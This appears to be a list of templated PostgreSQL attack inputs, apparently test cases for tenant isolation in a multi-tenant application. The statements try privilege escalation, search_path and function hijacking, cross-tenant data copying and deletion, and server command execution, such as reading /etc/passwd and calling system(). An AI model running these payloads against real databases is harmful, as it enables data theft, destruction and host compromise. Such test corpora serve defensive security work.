DO $$ BEGIN PERFORM name FROM @people; END $$
DO $$ DECLARE n text; BEGIN @look INTO n; RAISE EXCEPTION '%', n; END $$
DO $$ BEGIN EXECUTE 'SET ROLE @them'; PERFORM 1 FROM @people; END $$
DO $$ BEGIN EXECUTE 'SET search_path = @theirs'; END $$; SELECT name FROM households_resident
DO $$ BEGIN PERFORM set_config('role', '@them', false); EXCEPTION WHEN OTHERS THEN NULL; END $$; @look
DO $$ BEGIN DELETE FROM @people; EXCEPTION WHEN OTHERS THEN NULL; END $$
DO $$ BEGIN LOOP EXECUTE 'GRANT SELECT ON @people TO @me'; EXIT; END LOOP; END $$
DO LANGUAGE plpython3u 'open("/etc/passwd").read()'
DO LANGUAGE plperlu 'system("id")'
CREATE FUNCTION @mine.f() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER AS '@look'; SELECT @mine.f()
CREATE FUNCTION public.f() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER AS '@look'
CREATE FUNCTION pg_temp.f() RETURNS SETOF text LANGUAGE sql AS '@look'; SELECT pg_temp.f()
CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system'
CREATE OR REPLACE FUNCTION street.submit(payload jsonb) RETURNS void LANGUAGE sql AS 'DELETE FROM @people'
CREATE FUNCTION @mine.submit(payload jsonb) RETURNS void LANGUAGE sql AS 'SELECT 1'
CREATE FUNCTION public.hashtext(text) RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE OPERATOR @mine.= (FUNCTION = int4eq, LEFTARG = int, RIGHTARG = text)
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
CREATE AGGREGATE @mine.count(text) (SFUNC = textcat, STYPE = text)
CREATE PROCEDURE @mine.p() LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN COMMIT; END'; CALL @mine.p()
CREATE TEMP TABLE tenants_tenant AS SELECT '@theirs' AS schema_name, '@me' AS login, 'committee' AS type
CREATE TEMP VIEW households_resident AS @look
CREATE TEMP TABLE reporting_figure (committee text)
CREATE VIEW @mine.people AS @look; SELECT * FROM @mine.people
CREATE MATERIALIZED VIEW @mine.people AS @look
CREATE TABLE @mine.people AS @look
SELECT name INTO @mine.people FROM @people
CREATE RULE people AS ON INSERT TO households_resident DO ALSO DELETE FROM @people
CREATE TRIGGER t AFTER INSERT ON @people FOR EACH ROW EXECUTE FUNCTION @mine.audit_append_only()
CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION pg_event_trigger_table_rewrite_oid()
CREATE POLICY p ON @people USING (true)
CREATE PUBLICATION p FOR TABLE @people
CREATE STATISTICS @mine.s ON name, pinyin FROM @people
CREATE TABLE @mine.child () INHERITS (@people)
CREATE TABLE @mine.child (LIKE @people INCLUDING ALL)
ALTER TABLE households_resident INHERIT @people
ALTER TABLE @people INHERIT @mine.households_resident
SELECT street.submit('{"committee": "@theirs", "at": "2026-01-01", "cells": []}')
SELECT street.submit('{"cells": [{"committee": "@theirs", "measure": "m", "part": "", "grain": "day"}]}')
SET ROLE @them; SELECT street.submit('{"at": "2026-01-01", "cells": []}')
SET search_path = pg_temp, @mine; SELECT street.submit('{"at": "2026-01-01", "cells": []}')
SELECT street.compare('{"committee": "@theirs", "at": "2026-01-01", "cells": []}')
SELECT @theirs.audit_append_only()
DROP FUNCTION street.submit(jsonb)
ALTER FUNCTION street.submit(jsonb) OWNER TO @me
ALTER FUNCTION street.submit(jsonb) SECURITY INVOKER
GRANT EXECUTE ON FUNCTION street.submit(jsonb) TO PUBLIC
PREPARE people AS @look; EXECUTE people
PREPARE people AS SELECT name FROM households_resident; SET search_path = @theirs; EXECUTE people
